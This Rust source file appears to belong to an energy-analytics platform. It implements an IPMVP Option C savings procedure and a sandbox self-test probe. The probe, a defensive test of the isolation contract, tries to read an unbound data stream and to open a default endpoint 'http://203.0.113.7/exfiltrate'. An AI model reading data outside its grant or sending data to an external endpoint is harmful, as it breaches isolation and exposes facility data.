//! Built-in analytic procedures: the whole-facility measurement and
//! verification reference app, and a hostile probe used to demonstrate the
//! sandbox contract.

use std::collections::BTreeSet;

use serde_json::{json, Value};

use crate::mv::{
    compute_net_consumption, daily_mean_temperature, discover_metering, resolve_expression,
    run_option_c, MeterExpression, MvConfig, DAY_SECONDS,
};
use crate::rdf::Iri;
use crate::timeseries::{Observation, QuantityKind};

use super::{AnalyticProcedure, AppError, BindContext, Bindings, SandboxContext};

/// IPMVP Option C with automatic meter discovery.
///
/// Binding discovers the metering hierarchy of the target's published
/// model, selects a data channel per meter, resolves the ambient
/// temperature stream, and freezes the signed meter expression into the
/// installation. The run fits the baseline change-point model, estimates
/// savings with confidence bounds, and emits the daily net-consumption and
/// baseline-prediction series as output streams.
pub struct MvOptionCProcedure;

const TEMPERATURE_VARIABLE: &str = "oat";

impl AnalyticProcedure for MvOptionCProcedure {
    fn bind(&self, ctx: &BindContext) -> Result<Bindings, AppError> {
        let discovery = discover_metering(ctx.graph, ctx.ontology)?;

        let terms = if ctx.target_is_site {
            discovery.site_terms.clone()
        } else {
            let building = discovery
                .building_terms
                .keys()
                .find(|b| ctx.graph.label_of(b).as_deref() == Some(ctx.target_label))
                .cloned()
                .ok_or_else(|| {
                    AppError::EntrypointFailure(format!(
                        "no building entity labelled `{}` in the published model",
                        ctx.target_label
                    ))
                })?;
            discovery.building_terms[&building].clone()
        };
        let expression = resolve_expression(ctx.graph, ctx.ontology, &terms)?;

        // Ambient temperature: the discovery query binds it as `oat`.
        let oat_entities: BTreeSet<Iri> = ctx
            .discovery
            .solutions
            .iter()
            .filter_map(|row| row.get(TEMPERATURE_VARIABLE))
            .map(|&idx| ctx.discovery.entities[idx].id.clone())
            .collect();
        let oat = oat_entities.first().ok_or_else(|| {
            AppError::EntrypointFailure(format!(
                "discovery query bound no `{TEMPERATURE_VARIABLE}` variable (ambient temperature sensor)"
            ))
        })?;
        let temperature_stream = ctx
            .graph
            .property(oat, "streamRef")
            .and_then(|l| l.as_str().map(String::from))
            .ok_or_else(|| {
                AppError::EntrypointFailure(format!(
                    "temperature point `{oat}` carries no streamRef"
                ))
            })?;

        let mut streams = expression.stream_ids();
        streams.push(temperature_stream.clone());
        for stream in &streams {
            if !(ctx.stream_exists)(stream) {
                return Err(AppError::EntrypointFailure(format!(
                    "bound stream `{stream}` does not exist"
                )));
            }
        }

        let mut variables = std::collections::BTreeMap::new();
        variables.insert(
            "meters".to_string(),
            expression.terms.iter().map(|t| t.meter.clone()).collect(),
        );
        variables.insert(TEMPERATURE_VARIABLE.to_string(), vec![oat.clone()]);

        Ok(Bindings {
            variables,
            streams,
            data: json!({
                "expression": expression,
                "temperature_stream": temperature_stream,
                "discovery_diagnostics": discovery.diagnostics,
            }),
        })
    }

    fn run(&self, ctx: &SandboxContext) -> Result<Value, AppError> {
        let config: MvConfig = serde_json::from_value(ctx.config().clone())
            .map_err(|e| AppError::BadConfig(e.to_string()))?;
        let data = &ctx.bindings().data;
        let expression: MeterExpression =
            serde_json::from_value(data["expression"].clone())
                .map_err(|e| AppError::BadConfig(format!("bindings missing expression: {e}")))?;
        let temperature_stream = data["temperature_stream"]
            .as_str()
            .ok_or_else(|| AppError::BadConfig("bindings missing temperature stream".into()))?
            .to_string();

        let result = run_option_c(ctx, &expression, &temperature_stream, &config)?;

        // Output streams: measured daily net consumption over both windows,
        // and the fitted model's prediction over the analysis window.
        let mut net_daily = Vec::new();
        for window in [config.baseline, config.analysis] {
            for bucket in compute_net_consumption(
                ctx,
                &expression,
                window,
                DAY_SECONDS,
                config.day_completeness_threshold,
            )? {
                net_daily.push(Observation::new(bucket.start, bucket.value_kwh));
            }
        }
        ctx.write_output("net_daily_kwh", QuantityKind::Energy, "kWh", &net_daily)?;

        let temps = daily_mean_temperature(ctx, &temperature_stream, config.analysis)?;
        let predicted: Vec<Observation> = temps
            .iter()
            .map(|(&day, &t)| Observation::new(day, result.model.predict(t)))
            .collect();
        ctx.write_output(
            "baseline_prediction_kwh",
            QuantityKind::Energy,
            "kWh",
            &predicted,
        )?;

        let mut doc = serde_json::to_value(&result)
            .map_err(|e| AppError::EntrypointFailure(e.to_string()))?;
        doc["discovery_diagnostics"] = data["discovery_diagnostics"].clone();
        doc["output_streams"] = json!(ctx.outputs());
        Ok(doc)
    }
}

/// A deliberately hostile procedure that probes the sandbox: it attempts to
/// read a stream outside its bindings and to open an external endpoint.
/// Both attempts fail, and the recorded violations abort the run. Install
/// it against any model to self-test the isolation contract.
pub struct SandboxProbeProcedure;

impl AnalyticProcedure for SandboxProbeProcedure {
    fn run(&self, ctx: &SandboxContext) -> Result<Value, AppError> {
        let stream = ctx
            .config()
            .get("probe_stream")
            .and_then(|v| v.as_str())
            .unwrap_or("unbound-probe-stream")
            .to_string();
        let endpoint = ctx
            .config()
            .get("probe_endpoint")
            .and_then(|v| v.as_str())
            .unwrap_or("http://203.0.113.7/exfiltrate")
            .to_string();

        let read_attempt = ctx.read_stream(
            &stream,
            crate::timeseries::Window::new(0, i64::MAX >> 1).unwrap(),
        );
        let endpoint_attempt = ctx.open_endpoint(&endpoint);

        Ok(json!({
            "probe_stream": stream,
            "read_succeeded": read_attempt.is_ok(),
            "probe_endpoint": endpoint,
            "endpoint_succeeded": endpoint_attempt.is_ok(),
        }))
    }
}
